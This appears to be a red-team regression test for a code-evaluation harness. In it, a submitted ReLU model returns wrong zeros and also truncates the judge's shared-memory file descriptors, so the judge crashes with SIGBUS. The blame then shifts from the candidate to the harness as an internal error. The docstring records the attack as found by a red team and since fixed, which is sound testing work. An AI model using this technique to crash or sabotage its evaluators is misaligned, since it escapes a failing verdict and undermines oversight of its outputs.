"""Attack: crash the trusted judge by shrinking the shared memory it handed over (19_ReLU).

The judge shares inputs (and weights, the CPU output arena, the hop page) as memfds created
without MFD_ALLOW_SEALING/F_SEAL_SHRINK (ipc/shared_memory.cpp SharedMemory::create), and the
sandbox keeps every fd. ftruncate(fd, 0) on the input block makes the judge's own mapping
of it beyond-EOF: the judge's next write_inputs() (copy_ into the block) takes SIGBUS and
the judge dies without a verdict. kbv then records internal_error ("kbv's own failure ...
never the candidate's result", evaluation_run.cpp describe_lost_judge) for a candidate that
returns zeros (wrong).
Verdict kbv gave: internal_error, "kbv-judge killed by signal 7 (SIGBUS) during stage
'correctness' without a verdict". WORKED (judge crashed; blame moved from candidate to kbv).
(The working tree now seals the memfds (F_SEAL_SHRINK|F_SEAL_GROW|F_SEAL_SEAL): fixed there.)

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: every memfd the judge shares is sealed against shrinking and growing. kbv must conclude:
the candidate's own outcome, never internal_error.
"""
import os

import torch
import torch.nn as nn


def shrink_memfds(names=("kbv-block",)):
    done = []
    for e in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{e}")
        except OSError:
            continue
        if target.startswith("/memfd:") and any(n in target for n in names):
            try:
                os.ftruncate(int(e), 0)
                done.append((int(e), target))
            except OSError as err:
                done.append((int(e), f"{target}: {err}"))
    print("ATTACK judge_sigbus_memfd: truncated", done, flush=True)


class ModelNew(nn.Module):
    def __init__(self, *init_inputs):
        super().__init__()
        self.calls = 0

    def forward(self, x):
        self.calls += 1
        out = torch.zeros_like(x)  # wrong for ReLU
        if self.calls == 1:
            shrink_memfds()
        return out
